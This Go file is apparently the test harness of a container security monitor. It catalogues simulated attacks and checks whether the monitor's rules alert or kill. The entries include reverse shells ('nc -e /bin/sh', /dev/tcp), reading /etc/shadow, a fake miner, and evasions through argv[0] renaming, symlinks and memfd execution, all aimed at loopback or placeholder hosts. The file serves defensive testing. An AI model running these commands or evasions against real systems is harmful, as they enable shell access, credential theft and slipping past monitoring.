package harness

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/vigil-dev/vigil/monitor/alerts"
)

// Paths of the attack fixtures in the image AttackImageFiles describes.
const (
	// MemexecPath runs a program from a memfd or with a chosen argv[0]
	// (package test/harness/memexec).
	MemexecPath = "/usr/local/bin/memexec"
	// ApkPath is a package manager by name: a copy of busybox.
	ApkPath = "/sbin/apk"
	// XmrigPath is a crypto miner by name: a copy of busybox.
	XmrigPath = "/usr/bin/xmrig"
)

// Monitor settings of the policies the attacks run under.
const (
	MonitorDefault   = "{mode: enforce, killAt: critical}"
	MonitorKillShell = `{mode: enforce, kill: ["tag:shell"]}`
	MonitorKillPkg   = `{mode: enforce, kill: ["tag:package_management"]}`
	MonitorKillRead  = `{mode: enforce, kill: ["Sensitive File Access"]}`
)

// Names of vigil's built-in rules (monitor/rules/builtin/vigil_rules.yaml).
const (
	RuleShell    = "Shell Spawned in Container"
	RuleRead     = "Sensitive File Access"
	RulePkg      = "Package Management in Container"
	RuleDrift    = "Container Drift Detected"
	RuleRevShell = "Reverse Shell"
	RuleMiner    = "Crypto Miner"
	RuleOutbound = "Outbound Connection to Unusual Port"
	RulePrivEsc  = "Privilege Escalation"
)

// Expect is what vigil must do about an attack.
type Expect int

const (
	// ExpectAlert: the rule alerts and the attack runs.
	ExpectAlert Expect = iota
	// ExpectKill: the rule kills; the attack prints nothing, the kernel
	// killed the exec or denied the open, and the task ends 137.
	ExpectKill
	// ExpectNothing: no rule fires before the sentinel's, nothing is
	// killed.
	ExpectNothing
)

func (e Expect) String() string {
	switch e {
	case ExpectKill:
		return "kill"
	case ExpectNothing:
		return "nothing"
	}
	return "alert"
}

// Attack is one thing a container does that vigil's monitor must catch, or
// must leave alone, run in a fresh container by RunAttack. The evasion
// end-to-end tests and `vigil selftest` share the catalogue (Attacks).
type Attack struct {
	// Name is what the attack is, as the self test's table shows it.
	Name string
	// Monitor is the policy's monitor settings (YAML).
	Monitor string
	// Entrypoint is the container's command; nil means "sleep 600".
	Entrypoint []string
	// Setup runs in the container before the attack; each must exit 0.
	Setup [][]string
	// Cmd is the attack, run with `ctr task exec`; nil when the entrypoint
	// is the attack.
	Cmd []string
	// Raw runs Cmd (or the attacking entrypoint) as given. Otherwise it is
	// started through memexec -direct -stamp -argv, which runs exactly the
	// same argument vector after writing the time it started, so latency
	// is measured from the attack's own start rather than from ctr's.
	Raw bool
	// Marker is output only the attack itself prints when it runs.
	Marker string
	// Expect is what vigil must do.
	Expect Expect
	// Rule is the rule that must fire (ExpectAlert, ExpectKill).
	Rule string
	// KernelAction is the alert's vigil.kernelAction for ExpectKill
	// ("killed" for execs, "denied" for opens); "" accepts a kill by user
	// space too (an attack two sensors see, whichever is first).
	KernelAction string
}

// sentinel is exec'd after an ExpectNothing attack: an exec the exec
// sensor reports through the same queue, under every policy above, without
// killing. Once its alert is in, every alert of the attack is too.
var sentinel = struct {
	cmd     []string
	rule    string
	cmdline string // its proc.cmdline
}{[]string{ApkPath, "--version"}, RulePkg, "apk --version"}

// IsSentinel says whether al is the alert of the exec RunAttack runs after
// an ExpectNothing attack to know that the attack's alerts are all in.
func IsSentinel(al alerts.Alert) bool {
	return al.Rule == sentinel.rule && fmt.Sprint(al.OutputFields["proc.cmdline"]) == sentinel.cmdline
}

// Attacks is the catalogue: each detection's attack under the default
// policy (and raised to kill where the default alerts), then the evasions
// of item 4 of the monitor issue: identity, not names.
func Attacks() []Attack {
	const pwned = "echo PWNED"
	sh := func(script string) []string { return []string{"sh", "-c", script} }
	return []Attack{
		// Detections.
		{Name: "shell (sh -c)", Monitor: MonitorDefault, Cmd: sh(pwned), Marker: "PWNED", Expect: ExpectAlert, Rule: RuleShell},
		{Name: "shell (sh -c), shells raised to kill", Monitor: MonitorKillShell, Cmd: sh(pwned), Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "sensitive read (cat /etc/shadow)", Monitor: MonitorDefault, Cmd: []string{"cat", "/etc/shadow"}, Marker: "vigiltest", Expect: ExpectAlert, Rule: RuleRead},
		{Name: "sensitive read, raised to kill", Monitor: MonitorKillRead, Cmd: []string{"cat", "/etc/shadow"}, Marker: "vigiltest", Expect: ExpectKill, Rule: RuleRead, KernelAction: "denied"},
		{Name: "package manager (apk)", Monitor: MonitorDefault, Cmd: []string{"apk", "add", "curl"}, Marker: "applet not found", Expect: ExpectAlert, Rule: RulePkg},
		{Name: "package manager, raised to kill", Monitor: MonitorKillPkg, Cmd: []string{"apk", "add", "curl"}, Marker: "applet not found", Expect: ExpectKill, Rule: RulePkg, KernelAction: "killed"},
		{Name: "drift: dropped binary run", Monitor: MonitorDefault, Setup: [][]string{{"cp", "/bin/busybox", "/tmp/dropped"}}, Cmd: []string{"/tmp/dropped", "echo", "PWNED"}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleDrift, KernelAction: "killed"},
		{Name: "reverse shell (sh -i)", Monitor: MonitorDefault, Cmd: []string{"sh", "-i", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleRevShell, KernelAction: "killed"},
		{Name: "reverse shell (/dev/tcp/)", Monitor: MonitorDefault, Cmd: sh(pwned + "; cat </dev/tcp/127.0.0.1/9"), Marker: "PWNED", Expect: ExpectKill, Rule: RuleRevShell, KernelAction: "killed"},
		{Name: "reverse shell (nc -e)", Monitor: MonitorDefault, Cmd: []string{"nc", "-e", "/bin/sh", "127.0.0.1", "9"}, Marker: "nc: ", Expect: ExpectKill, Rule: RuleRevShell, KernelAction: "killed"},
		{Name: "crypto miner (xmrig)", Monitor: MonitorDefault, Cmd: []string{"xmrig", "-o", "pool.example:3333"}, Marker: "applet not found", Expect: ExpectKill, Rule: RuleMiner, KernelAction: "killed"},
		{Name: "crypto miner (stratum+tcp:// argument)", Monitor: MonitorDefault, Cmd: []string{"echo", "PWNED", "--url=stratum+tcp://pool.example:3333"}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleMiner, KernelAction: "killed"},
		{Name: "outbound connection (port 4444)", Monitor: MonitorDefault, Cmd: []string{"nc", "-w", "1", "192.0.2.1", "4444"}, Expect: ExpectAlert, Rule: RuleOutbound},
		{Name: "privilege escalation (chmod u+s)", Monitor: MonitorDefault, Setup: [][]string{{"touch", "/tmp/suid"}}, Cmd: []string{"chmod", "u+s", "/tmp/suid"}, Expect: ExpectAlert, Rule: RulePrivEsc},

		// Evasions: a shell by another name.
		{Name: "shell through busybox (busybox sh -c)", Monitor: MonitorKillShell, Cmd: []string{"busybox", "sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell through busybox by path (busybox /bin/sh -c)", Monitor: MonitorKillShell, Cmd: []string{"busybox", "/bin/sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell through busybox twice (busybox busybox sh -c)", Monitor: MonitorKillShell, Cmd: []string{"busybox", "busybox", "sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell through a symlink elsewhere (/tmp/bin/sh)", Monitor: MonitorKillShell, Setup: [][]string{{"mkdir", "/tmp/bin"}, {"ln", "-s", "/bin/busybox", "/tmp/bin/sh"}}, Cmd: []string{"/tmp/bin/sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell through a symlink named busybox-x", Monitor: MonitorKillShell, Setup: [][]string{{"ln", "-s", "/bin/busybox", "/tmp/busybox-x"}}, Cmd: []string{"/tmp/busybox-x", "sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell with argv[0] renamed (exec -a -sh busybox)", Monitor: MonitorKillShell, Cmd: []string{MemexecPath, "-direct", "-stamp", "-path", "/bin/busybox", "--", "-sh", "-c", pwned}, Raw: true, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell with argv[0] renamed (exec -a busybox.x busybox)", Monitor: MonitorKillShell, Cmd: []string{MemexecPath, "-direct", "-stamp", "-path", "/bin/busybox", "--", "busybox.x", "sh", "-c", pwned}, Raw: true, Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},
		{Name: "shell by exec -a from the entrypoint shell", Monitor: MonitorKillShell, Entrypoint: sh(`(exec -a -sh /bin/busybox -c "echo PWNED"); sleep 600`), Marker: "PWNED", Expect: ExpectKill, Rule: RuleShell, KernelAction: "killed"},

		// Evasions: code that is not in the image.
		{Name: "copied interpreter (cp busybox /tmp/notsh)", Monitor: MonitorDefault, Setup: [][]string{{"cp", "/bin/busybox", "/tmp/notsh"}}, Cmd: []string{"/tmp/notsh", "sh", "-c", pwned}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleDrift, KernelAction: "killed"},
		{Name: "script written and run (/tmp/s.sh)", Monitor: MonitorDefault, Cmd: sh(`printf '#!/bin/sh\necho PWNED\n' > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh`), Marker: "PWNED", Expect: ExpectKill, Rule: RuleDrift},
		{Name: "script written and run (/tmp/run-me)", Monitor: MonitorDefault, Setup: [][]string{{"awk", `BEGIN { printf "#!/bin/sh\necho PWNED\n" > "/tmp/run-me" }`}, {"chmod", "+x", "/tmp/run-me"}}, Cmd: []string{"/tmp/run-me"}, Marker: "PWNED", Expect: ExpectKill, Rule: RuleDrift, KernelAction: "killed"},
		{Name: "binary run from a memfd", Monitor: MonitorDefault, Cmd: []string{MemexecPath, "-stamp", "sh", "-c", pwned}, Raw: true, Marker: "PWNED", Expect: ExpectKill, Rule: RuleDrift, KernelAction: "killed"},

		// Not attacks: what the workload and the runtime do.
		{Name: "entrypoint shell is not a spawned shell", Monitor: MonitorKillShell, Entrypoint: sh("echo ENTRY; sleep 600"), Raw: true, Expect: ExpectNothing},
		{Name: "runc exec of true is not the workload", Monitor: MonitorKillShell, Cmd: []string{"true"}, Raw: true, Expect: ExpectNothing},
	}
}

// Outcome is what RunAttack saw.
type Outcome struct {
	// Output is the attack's output (the container's for an entrypoint
	// attack), without memexec's start line.
	Output string
	// ExitCode is the attack exec's exit code (-1 for entrypoint attacks).
	ExitCode int
	// TaskExit is the container's exit code, or -1 when it was still
	// running once the alerts were in (it is killed afterwards).
	TaskExit int
	// Start is when the attack started: memexec's stamp, else when the
	// attack was issued.
	Start time.Time
	// Alerts are the container's alerts, in order.
	Alerts []alerts.Alert
}

// Fired returns the first alert of rule, or nil.
func (o Outcome) Fired(rule string) *alerts.Alert {
	for i := range o.Alerts {
		if o.Alerts[i].Rule == rule {
			return &o.Alerts[i]
		}
	}
	return nil
}

// Verdict returns the alert that shows the attack was handled as expected:
// the first alert of its rule whose action (and, for a kill, kernel action)
// is what the attack expects — for a kill by either sensor, one the kernel
// acted on first — else the first alert of its rule, else nil.
func (o Outcome) Verdict(a Attack) *alerts.Alert {
	match := func(al *alerts.Alert, kernel bool) bool {
		if al.Rule != a.Rule || al.Vigil == nil {
			return false
		}
		switch a.Expect {
		case ExpectKill:
			if a.KernelAction == "" && kernel {
				return al.Vigil.Action == alerts.ActionKill && al.Vigil.KernelAction != ""
			}
			return al.Vigil.Action == alerts.ActionKill && (a.KernelAction == "" || al.Vigil.KernelAction == a.KernelAction)
		case ExpectAlert:
			return al.Vigil.Action == alerts.ActionAlert && al.Vigil.KernelAction == ""
		}
		return false
	}
	for _, kernel := range []bool{true, false} {
		for i := range o.Alerts {
			if match(&o.Alerts[i], kernel) {
				return &o.Alerts[i]
			}
		}
	}
	return o.Fired(a.Rule)
}

// Judge says whether vigil did what the attack expects, and if not, why.
func (a Attack) Judge(o Outcome) (ok bool, why string) {
	var problems []string
	bad := func(f string, args ...any) { problems = append(problems, fmt.Sprintf(f, args...)) }
	switch a.Expect {
	case ExpectKill:
		if a.Marker != "" && strings.Contains(o.Output, a.Marker) {
			bad("the attack ran (its output has %q)", a.Marker)
		}
		al := o.Verdict(a)
		switch {
		case al == nil:
			bad("no %q alert", a.Rule)
		case al.Vigil == nil || al.Vigil.Action != alerts.ActionKill:
			bad("%q alert action %s, want kill", a.Rule, actionOf(al))
		case a.KernelAction != "" && al.Vigil.KernelAction != a.KernelAction:
			bad("%q alert kernelAction %q, want %q", a.Rule, al.Vigil.KernelAction, a.KernelAction)
		}
		if o.TaskExit != 137 {
			bad("task exit %s, want 137", exitString(o.TaskExit))
		}
	case ExpectAlert:
		if a.Marker != "" && !strings.Contains(o.Output, a.Marker) {
			bad("the attack did not run (no %q in its output %q)", a.Marker, o.Output)
		}
		for _, al := range o.Alerts {
			if al.Vigil != nil && al.Vigil.Action != alerts.ActionAlert {
				bad("%q alert action %s: only alerts are expected", al.Rule, actionOf(&al))
			}
		}
		al := o.Verdict(a)
		switch {
		case al == nil:
			bad("no %q alert", a.Rule)
		case al.Vigil == nil || al.Vigil.Action != alerts.ActionAlert || al.Vigil.KernelAction != "":
			bad("%q alert action %s, want alert", a.Rule, actionOf(al))
		}
		if o.TaskExit != -1 {
			bad("task ended (exit %d), want it running", o.TaskExit)
		}
	case ExpectNothing:
		seen := false
		for _, al := range o.Alerts {
			if IsSentinel(al) {
				seen = true
				continue
			}
			bad("unexpected %q alert (%s)", al.Rule, actionOf(&al))
		}
		if !seen {
			bad("the sentinel's alert never came: nothing was checked")
		}
		if a.Cmd != nil && o.ExitCode != 0 {
			bad("exit %d, want 0", o.ExitCode)
		}
		if o.TaskExit != -1 {
			bad("task ended (exit %d), want it running", o.TaskExit)
		}
	}
	return len(problems) == 0, strings.Join(problems, "; ")
}

func actionOf(a *alerts.Alert) string {
	if a.Vigil == nil {
		return "none"
	}
	if a.Vigil.KernelAction != "" {
		return string(a.Vigil.Action) + "/" + a.Vigil.KernelAction
	}
	return string(a.Vigil.Action)
}

func exitString(code int) string {
	if code == -1 {
		return "none (still running)"
	}
	return fmt.Sprint(code)
}

// Action is the "action" column of an outcome's alert: vigil.action, and
// the kernel's action after a slash ("kill/killed").
func Action(a *alerts.Alert) string { return actionOf(a) }

// memexecStamp prefixes the line memexec -stamp writes.
const memexecStamp = "memexec-start "

// RunAttack runs a in a fresh container id of image under a policy file
// written into dir (with the alerts file next to it), and returns what
// happened. The container is gone when it returns. An error means the
// attack could not be carried out (setup failed, the container did not
// start), not that vigil missed it: Judge says that.
func (d *Daemon) RunAttack(ctx context.Context, a Attack, image, id, dir string) (Outcome, error) {
	o := Outcome{ExitCode: -1, TaskExit: -1}
	cfg := filepath.Join(dir, "config.yaml")
	alertsFile := filepath.Join(dir, "alerts.jsonl")
	pol := fmt.Sprintf("alerts: {file: %q}\npolicies:\n  - name: attack\n    match: {}\n    seccomp: runtime/default\n    monitor: %s\n", alertsFile, a.Monitor)
	if err := os.WriteFile(cfg, []byte(pol), 0o600); err != nil {
		return o, err
	}
	entry := a.Entrypoint
	if entry == nil {
		entry = []string{"sleep", "600"}
	} else if a.Cmd == nil && !a.Raw {
		entry = stamped(entry)
	}
	start := time.Now()
	r := d.RunBackground(ctx, "", image, id, []string{"--runtime-config-path", cfg}, entry...)
	defer func() {
		select {
		case <-r.done:
			return
		default:
		}
		kctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		d.Ctr(kctx, "tasks", "kill", "-a", "-s", "SIGKILL", id)
		r.Wait(kctx)
	}()
	attackInEntrypoint := a.Cmd == nil && a.Expect != ExpectNothing
	if !attackInEntrypoint {
		wctx, cancel := context.WithTimeout(ctx, 30*time.Second)
		err := d.WaitRunning(wctx, r)
		cancel()
		if err != nil {
			return o, err
		}
		for i, s := range a.Setup {
			res, err := d.Exec(ctx, id, fmt.Sprintf("setup%d", i), s...)
			if err != nil || res.ExitCode != 0 {
				return o, fmt.Errorf("setup %q: exit %d %v: %s", strings.Join(s, " "), res.ExitCode, err, res.Output)
			}
		}
		if a.Cmd != nil {
			cmd := a.Cmd
			if !a.Raw {
				cmd = stamped(cmd)
			}
			start = time.Now()
			res, err := d.Exec(ctx, id, "attack", cmd...)
			if err != nil {
				// ctr itself failed; an exec killed by vigil is an exit
				// code, not an error.
				res.ExitCode = -1
				res.Output += err.Error()
			}
			o.ExitCode = res.ExitCode
			o.Output, o.Start = unstamp(res.Output, start)
		}
	}

	// Wait for the verdict: the expected rule's alert (and the task's end
	// for a kill), or the sentinel's alert.
	done := func(o Outcome) bool { return o.Fired(a.Rule) != nil }
	if a.Expect == ExpectNothing {
		res, err := d.Exec(ctx, id, "sentinel", sentinel.cmd...)
		if err != nil {
			return o, fmt.Errorf("sentinel %v: %w: %s", sentinel.cmd, err, res.Output)
		}
		done = func(o Outcome) bool {
			for _, al := range o.Alerts {
				if IsSentinel(al) {
					return true
				}
			}
			return false
		}
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		o.Alerts = readAlerts(alertsFile, id)
		if done(o) || time.Now().After(deadline) {
			break
		}
		select {
		case <-ctx.Done():
			return o, ctx.Err()
		case <-time.After(25 * time.Millisecond):
		}
	}
	if a.Expect == ExpectKill || attackInEntrypoint {
		// A kill ends the task; give it the time runc needs.
		select {
		case <-r.done:
		case <-time.After(10 * time.Second):
		}
	} else {
		// A task that must be left running: give a wrong kill, which user
		// space carries out after the alert, the time to show.
		select {
		case <-r.done:
		case <-time.After(300 * time.Millisecond):
		}
	}
	select {
	case <-r.done:
		o.TaskExit = r.res.ExitCode
		if r.err != nil {
			return o, r.err
		}
		if attackInEntrypoint {
			o.Output, o.Start = unstamp(r.res.Output, start)
		}
	default:
	}
	o.Alerts = readAlerts(alertsFile, id)
	return o, nil
}

// stamped runs cmd through memexec, which writes its start time first.
// The argument vector is passed encoded, so memexec's own exec carries
// none of the attack's markers.
func stamped(cmd []string) []string {
	return []string{MemexecPath, "-direct", "-stamp", "-argv", base64.StdEncoding.EncodeToString([]byte(strings.Join(cmd, "\x00")))}
}

// unstamp removes memexec's start line from out and returns the start time
// it gives (def when there is none).
func unstamp(out string, def time.Time) (string, time.Time) {
	var kept []string
	start := def
	for _, l := range strings.SplitAfter(out, "\n") {
		if s, ok := strings.CutPrefix(l, memexecStamp); ok {
			if t, err := time.Parse(time.RFC3339Nano, strings.TrimSpace(s)); err == nil {
				start = t
				continue
			}
		}
		kept = append(kept, l)
	}
	return strings.Join(kept, ""), start
}

// readAlerts returns the alerts of container id in a JSON-lines file;
// lines that are not alerts are skipped (the tests check the format).
func readAlerts(path, id string) []alerts.Alert {
	b, err := os.ReadFile(path)
	if errors.Is(err, os.ErrNotExist) || err != nil {
		return nil
	}
	var out []alerts.Alert
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var al alerts.Alert
		if err := al.UnmarshalJSON(sc.Bytes()); err != nil {
			continue
		}
		if al.Vigil != nil && al.Vigil.ContainerID == id {
			out = append(out, al)
		}
	}
	return out
}
